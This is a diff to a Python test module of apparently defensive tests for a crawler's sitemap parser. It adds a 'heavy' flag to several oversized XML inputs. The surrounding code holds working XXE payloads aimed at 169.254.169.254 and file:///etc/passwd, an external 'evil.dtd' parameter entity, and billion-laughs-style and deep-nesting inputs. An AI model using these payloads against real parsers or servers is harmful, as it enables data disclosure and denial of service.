@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
-from crawler.testing.attack import Attack, Visit, answer
+from dataclasses import replace
+
+from crawler.testing.attack import TOO_HEAVY, Attack, Visit, answer
 
 _OPEN = b'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
 _XML = b'<?xml version="1.0"?>'
@@ -68,11 +70,17 @@ _XXE_HTTP = b'<!ENTITY x SYSTEM "http://169.254.169.254/latest/">'
 _QUADRATIC = b'<!ENTITY a "' + b"a" * 50_000 + b'">'
 _PARAMETER = b'<!ENTITY % a SYSTEM "http://10.0.0.1/evil.dtd"> %a;'
 _ELSEWHERE = ("http://169.254.169.254/latest/", "file:///etc/passwd", "http://10.0.0.1/", "javascript:alert(1)")
+_ATTRIBUTES = b"".join(b" a%d=''" % number for number in range(100_000))
 _SELF_CLOSING = b"<url><loc>/page" + b"<b/>" * 250_000 + b"</loc></url>"
 
 
 def _sitemap(name: str, body: bytes, requests: int = 3, **bounds: float) -> Attack:
     return Attack(name, body, is_sitemap=True, requests=requests, seconds=bounds.get("seconds", 2.0))
+
+
+def _heavy(attack: Attack) -> Attack:
+    """*attack*, which is harmless to who reads it as a sitemap, and too heavy to be parsed as HTML."""
+    return replace(attack, linked=TOO_HEAVY, alone=True)
 
 
 ATTACKS = (
@@ -86,13 +94,11 @@ ATTACKS = (
     _sitemap("a DTD of 4 MB", _with_entities(b"<!ELEMENT x ANY>" * 250_000, b"")),
     _sitemap("1 MB of unclosed items", _answer(b"<item " * 175_000)),
     _sitemap("1 MB of unclosed attributes", _answer(_XML + b"<urlset " + b"a " * 500_000)),
-    _sitemap(
-        "100,000 attributes", _answer(_XML + b"<urlset" + b"".join(b" a%d=''" % n for n in range(100_000)) + b"/>")
-    ),
-    _sitemap("XML 200,000 deep", _answer(_XML + _OPEN + b"<a>" * 200_000)),
+    _heavy(_sitemap("100,000 attributes", _answer(_XML + b"<urlset" + _ATTRIBUTES + b"/>"))),
+    _heavy(_sitemap("XML 200,000 deep", _answer(_XML + _OPEN + b"<a>" * 200_000))),
     _sitemap("1 MB in one name", _answer(_XML + b"<" + b"a" * 1_000_000)),
     _sitemap("a loc of 2 MB", _answer(_XML + _urlset("/" + "x" * 2_000_000))),
-    _sitemap("a loc of 250,000 elements", _answer(_XML + _OPEN + _SELF_CLOSING + b"</urlset>")),
+    _heavy(_sitemap("a loc of 250,000 elements", _answer(_XML + _OPEN + _SELF_CLOSING + b"</urlset>"))),
     _sitemap("an unclosed comment of 4 MB", _answer(_XML + _OPEN + b"<!-- " + b"-" * 4_000_000)),
     _sitemap("a sitemap in UTF-16", _answer((_XML.decode() + _urlset("/page").decode()).encode("utf-16"))),
     _sitemap("a sitemap that lies of UTF-16", _answer(b'<?xml version="1.0" encoding="utf-16"?>' + _urlset("/page"))),
@@ -106,5 +112,5 @@ ATTACKS = (
     Attack("a sitemap index twelve deep", _deep, is_sitemap=True, requests=14),
     Attack("an endless sitemap index", _endless, is_sitemap=True, requests=14),
     Attack("a sitemap with 50,001 URLs", _many, is_sitemap=True, requests=4, seconds=4.0),
-    Attack("a sitemap of 1,000,000 empty entries", _billion_empty, is_sitemap=True, seconds=8.0),
+    _heavy(Attack("a sitemap of 1,000,000 empty entries", _billion_empty, is_sitemap=True, seconds=8.0)),
 )
